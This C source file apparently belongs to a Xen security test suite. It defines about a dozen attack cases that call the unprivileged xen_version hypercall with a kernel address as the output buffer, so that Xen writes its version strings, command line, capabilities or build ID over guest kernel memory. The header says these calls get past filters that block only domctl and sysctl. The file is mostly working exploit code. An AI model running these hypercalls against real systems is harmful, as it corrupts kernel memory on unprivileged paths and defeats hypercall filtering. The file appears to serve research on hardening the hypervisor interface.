// SPDX-License-Identifier: GPL-2.0-only
/*
 * U-KMEM through xen_version: what Xen tells about itself, it writes to
 * wherever it is asked to. No privilege is needed for any of it; even a filter
 * that knows nothing but domctl and sysctl as dangerous lets these pass.
 */
#include "kmem.h"

#include <xen/features.h>

static long version(unsigned int what, uint64_t to)
{
    return hypercall2(__HYPERVISOR_xen_version, what, to);
}

/* U-KMEM-EXTRAVER: 16 bytes, the end of Xen's version number and zeros. */
KMEM_ATTACK("U-KMEM-EXTRAVER", "Xen's extra version into the kernel")
{
    return version(XENVER_extraversion, victim());
}

/* U-KMEM-COMPILE: 144 bytes, compiler, builder and date. */
KMEM_ATTACK("U-KMEM-COMPILE", "Xen's compile information into the kernel")
{
    return version(XENVER_compile_info, victim());
}

/* U-KMEM-CAPS: 1024 bytes, the kinds of guest as text and zeros. */
KMEM_ATTACK("U-KMEM-CAPS", "Xen's capabilities into the kernel")
{
    return version(XENVER_capabilities, in_own_pages(NULL, 0));
}

/* U-KMEM-CHANGESET: 64 bytes, the revision that Xen was built from. */
KMEM_ATTACK("U-KMEM-CHANGESET", "Xen's changeset into the kernel")
{
    return version(XENVER_changeset, victim());
}

/* U-KMEM-PLATPARAM: 8 bytes, where Xen's part of the address space begins. */
KMEM_ATTACK("U-KMEM-PLATPARAM", "Xen's platform parameters into the kernel")
{
    return version(XENVER_platform_parameters, victim());
}

/*
 * U-KMEM-FEATURES: 4 bytes, a set of feature bits.
 *
 * They go into the caller's structure, of which Xen reads but the number of the
 * set: four zero bytes, as are found everywhere.
 */
KMEM_ATTACK("U-KMEM-FEATURES", "Xen's features into the kernel")
{
    const xen_feature_info_t first = { .submap_idx = 0 };

    return version(XENVER_get_features,
                   in_host_name(&first, sizeof(first.submap_idx)));
}

/*
 * U-KMEM-CMDLINE: 1024 bytes, Xen's command line, of which whoever writes the
 * boot entry chooses a part.
 */
KMEM_ATTACK("U-KMEM-CMDLINE", "Xen's command line into the kernel")
{
    return version(XENVER_commandline, in_own_pages(NULL, 0));
}

/*
 * U-KMEM-BUILDID: 20 bytes or so, a hash of Xen's binary.
 *
 * Here and in the four that follow the first word of the buffer holds its size.
 * Almost any word of kernel memory, read so, is large enough.
 */
KMEM_ATTACK("U-KMEM-BUILDID", "Xen's build ID into the kernel")
{
    return version(XENVER_build_id, victim());
}

/* An empty string is not written. */
static long sized(unsigned int what, uint64_t to)
{
    long length = version(what, to);

    return length ? length : cannot_show("this Xen has no such text");
}

/* U-KMEM-EXTRAVER2: the extra version again, without the zeros. */
KMEM_ATTACK("U-KMEM-EXTRAVER2", "Xen's extra version, sized, into the kernel")
{
    return sized(XENVER_extraversion2, victim());
}

/* U-KMEM-CHANGESET2: the changeset again, without the zeros. */
KMEM_ATTACK("U-KMEM-CHANGESET2", "Xen's changeset, sized, into the kernel")
{
    return sized(XENVER_changeset2, victim());
}

/* U-KMEM-CMDLINE2: the command line again, without the zeros. */
KMEM_ATTACK("U-KMEM-CMDLINE2", "Xen's command line, sized, into the kernel")
{
    return sized(XENVER_commandline2, in_own_pages(NULL, 0));
}

/* U-KMEM-CAPS2: the capabilities again, without the zeros. */
KMEM_ATTACK("U-KMEM-CAPS2", "Xen's capabilities, sized, into the kernel")
{
    return sized(XENVER_capabilities2, in_own_pages(NULL, 0));
}
